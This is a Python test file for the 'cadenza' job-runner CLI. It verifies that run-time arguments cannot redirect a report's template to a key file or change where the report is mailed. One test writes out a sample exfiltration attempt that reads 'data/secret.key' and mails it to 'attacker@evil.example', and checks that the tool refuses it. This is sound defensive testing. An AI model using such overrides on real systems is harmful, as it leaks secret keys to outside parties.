"""``cadenza run --arg`` obeys the same rule as the API: a run may not point a report's
template at the home's key nor mail it elsewhere (exit 2, no run, an audit event without
the values); a tunable field (a ``sql_copy`` batch size) is still set."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cadenza.cli.main import app
from cadenza.clock import FakeClock
from cadenza.services import Actor, Services

runner = CliRunner()

JOBS = """
[jobs.monthly-report]
params = { month = "2027-01" }
[[jobs.monthly-report.steps]]
name = "r"
type = "report"
path = "reports/sales-${params.month}.html"
[[jobs.monthly-report.steps.sections]]
title = "Sales"
connection = "warehouse"
query = "SELECT 1 AS n"
[[jobs.monthly-report.steps]]
name = "mail"
type = "notify"
to = ["role:ops"]
subject = "Sales report"
attach = ["${steps.r.path}"]

[jobs.copy]
[[jobs.copy.steps]]
name = "c"
type = "sql_copy"
source = { connection = "warehouse", query = "SELECT 1 AS n" }
target = { connection = "warehouse", table = "copied" }
"""


def cli(home: Path, *args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["--home", str(home), *args])
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def home(tmp_path: Path) -> Path:
    made = tmp_path / "home"
    assert runner.invoke(app, ["init", str(made), "--example"]).exit_code == 0
    jobs = made / "jobs.toml"
    jobs.write_text(jobs.read_text(encoding="utf-8") + JOBS, encoding="utf-8")
    return made


def test_the_exploit_through_arg_exits_2_with_an_event(home: Path) -> None:
    code, _, err = cli(home, "run", "monthly-report", "--local",
                       "--arg", "r.template=data/secret.key",
                       "--arg", "mail.to=attacker@evil.example")
    assert code == 2, err
    flat = " ".join(err.split())
    assert "step r: field template cannot be set by a run (it chooses a file to read" in flat
    assert "step mail: field to cannot be set by a run" in flat
    code, out, _ = cli(home, "runs", "list", "--json")
    assert code == 0 and json.loads(out) == []
    services = Services.at(home, actor=Actor("cli", "test"),
                           clock=FakeClock("2027-03-10T09:00:00+00:00"))
    try:
        (event,) = services.store().list_events(event_type="RUN_VALUES_REFUSED")
        assert event.payload["fields"] == [{"step": "r", "field": "template"},
                                           {"step": "mail", "field": "to"}]
        assert "secret.key" not in json.dumps(event.payload) + event.message
    finally:
        services.close()


def test_a_batch_size_is_still_set_by_a_run(home: Path) -> None:
    code, out, err = cli(home, "run", "copy", "--local", "--json", "--arg", "c.batch_size=7")
    assert code == 0, err + out
